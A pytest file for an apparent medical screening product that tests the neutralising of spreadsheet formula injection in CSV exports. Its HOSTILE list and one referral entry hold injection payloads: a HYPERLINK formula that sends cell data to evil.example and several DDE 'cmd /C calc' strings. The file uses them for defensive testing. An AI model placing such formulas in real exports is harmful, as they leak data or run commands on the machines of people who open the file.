"""CSV cells that a spreadsheet would run as a formula are neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from screening.csvsafe import neutralise, safe_writer
from screening.db.models import RiskClass
from screening.reports import batch_summary_csv
from screening.reports.context import BatchSummaryContext, ReferralEntry

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_triggers_are_prefixed_so_they_read_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("value", [-2.5, 0, 17, 0.7, "-2.5", "+3", "-1e-3", "hand-1.png", "", "North", None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_safe_writer_neutralises_every_row_and_round_trips_through_a_reader() -> None:
    out = io.StringIO()
    writer = safe_writer(out)
    writer.writerow(["=1+1", -2.5, "x"])
    writer.writerows([["@a", 3], ["ok", "-7"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-2.5", "x"], ["'@a", "3"], ["ok", "-7"]]


def test_batch_summary_csv_neutralises_text_cells() -> None:
    entry = ReferralEntry(pseudonym="=cmd|' /C calc'!A0", age_months=800, sex="F",
                          predicted_class=RiskClass.OSTEOPOROSIS, p_osteoporosis=0.81)
    ctx = BatchSummaryContext(hospital_name="North", hospital_code="NORTH", batch_id="b1",
                              uploaded_at=datetime(2024, 3, 1, tzinfo=UTC), finished_at=None, files_total=1,
                              patients_screened=1, class_counts={RiskClass.OSTEOPOROSIS: 1}, issues=(),
                              referrals=(entry,), model=None)
    rows = list(csv.reader(io.StringIO(batch_summary_csv(ctx).decode("utf-8"))))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"
    assert rows[1][0] == "1" and rows[1][-1] == "0.8100"


def test_every_csv_the_product_writes_goes_through_csvsafe() -> None:
    """One home for the rule: no other module of the product builds a raw csv writer.

    The one exception writes no CSV for people: the one-row manifest a single-study upload is
    wrapped in is read back only by the manifest parser, and neutralising it would change the
    patient id (and so the pseudonym) it carries.
    """
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    machine_read = {"screening/csvsafe.py", "screening/wrap_upload.py"}
    offenders = [path.relative_to(root).as_posix() for package in ("screening", "web", "worker")
                 for path in sorted((root / package).rglob("*.py"))
                 if raw.search(path.read_text(encoding="utf-8"))
                 and path.relative_to(root).as_posix() not in machine_read]
    assert offenders == []
